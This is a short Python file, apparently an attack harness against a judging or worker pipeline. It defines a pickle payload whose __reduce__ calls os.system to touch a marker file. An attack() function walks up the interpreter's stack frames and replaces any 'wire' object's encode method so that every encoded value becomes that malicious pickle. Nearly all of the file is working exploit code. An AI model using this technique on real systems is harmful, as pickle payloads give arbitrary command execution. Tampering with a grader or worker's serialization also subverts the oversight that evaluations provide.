"""judge: replaces the worker's encoder by one that writes pickles and code"""
import os
import pickle
import sys


class Run:
    def __reduce__(self):
        return os.system, (f"touch {TARGET['notes'][0]}/{TARGET['marker']}",)


def attack():
    frame = sys._getframe()
    while frame is not None:
        if "wire" in frame.f_globals:
            frame.f_globals["wire"].encode = lambda value: pickle.dumps(Run())
        frame = frame.f_back
